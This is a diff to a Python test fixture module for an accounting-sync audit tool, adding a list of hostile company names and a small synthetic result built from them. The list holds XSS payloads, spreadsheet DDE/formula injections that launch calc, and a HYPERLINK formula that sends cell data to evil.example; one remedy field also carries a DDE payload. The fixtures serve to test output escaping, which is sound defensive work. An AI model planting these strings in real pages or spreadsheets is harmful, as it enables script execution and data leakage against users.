@@ -10,7 +10,7 @@ import pandas as pd
 from auditor.findings import conform_findings
 from auditor.result import EXPIRED_SNOOZE_COLUMNS, AuditResult
 
-__all__ = ["synthetic_history", "synthetic_result"]
+__all__ = ["HOSTILE_NAMES", "synthetic_history", "synthetic_result", "tiny_result"]
 
 _PLATFORMS = ("Xero", "QuickBooks Online", "Sage Intacct", "NetSuite", "FreeAgent", "Plaid")
 _TYPES = (
@@ -153,3 +153,68 @@ def synthetic_history(
                 }
             )
     return pd.DataFrame(rows, columns=["snapshot_date", "snapshot_id", "severity", "count"])
+
+
+#: Company names that try to break out of HTML, attributes, scripts or spreadsheets.
+HOSTILE_NAMES: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTabbed=1+1",
+    "\rCarriage=1+1",
+    "</style><svg onload=alert(1)>",
+    "javascript:alert(1)",
+)
+
+
+def tiny_result(
+    *,
+    as_of: datetime,
+    names: tuple[str, ...] = HOSTILE_NAMES,
+    snapshot_id: str = "snap-tiny",
+) -> AuditResult:
+    """A small hand-made result: one finding per name, states and severities mixed, one snoozed
+    row, one resolved incident, negative ``age_hours`` on one row (clock skew)."""
+    rows = []
+    states = ("new", "ongoing", "regressed")
+    for i, name in enumerate(names):
+        rows.append(
+            {
+                "rule": ("stale", "failed-after-success", "cross-type-skew")[i % 3],
+                "severity": "error" if i % 2 == 0 else "warning",
+                "company_id": f"c-{i:03d}",
+                "company_name": name,
+                "platform": ("Xero", "QuickBooks Online", "NetSuite")[i % 3],
+                "connection_id": f"conn-{i}",
+                "data_type": ("invoices", "bills", "payments")[i % 3],
+                "group": "accounts-receivable" if i % 3 == 2 else None,
+                "current_status": "FetchError" if i % 3 == 1 else "Complete",
+                "last_successful_sync": pd.Timestamp(as_of) - timedelta(hours=10 * (i + 1)),
+                "age_hours": -1.5 if i == 4 else 10.0 * (i + 1),
+                "threshold_hours": 48.0,
+                "message": f"Message for {name}",
+                "remedy": "=cmd|' /C calc'!A0" if i == 0 else "Queue a refresh.",
+                "code": ("FA101", "FA201", "FA102")[i % 3],
+                "incident_key": f"k-{i}",
+                "state": states[i % 3],
+                "first_seen": pd.Timestamp(as_of) - timedelta(days=i),
+                "nights_open": i + 1,
+                "snoozed": False,
+                "snooze_reason": None,
+                "as_of": pd.Timestamp(as_of),
+            }
+        )
+    snoozed = dict(rows[0], company_id="c-snz", company_name="Snoozed Co", incident_key="k-snz")
+    snoozed.update(snoozed=True, snooze_reason="provider outage", state="ongoing")
+    rows.append(snoozed)
+    resolved = dict(rows[1], company_id="c-res", company_name="Resolved Co", incident_key="k-res")
+    resolved.update(state="resolved")
+    return AuditResult(
+        snapshot_id=snapshot_id,
+        as_of=as_of,
+        findings=conform_findings(pd.DataFrame(rows)),
+        resolved=conform_findings(pd.DataFrame([resolved])),
+    )
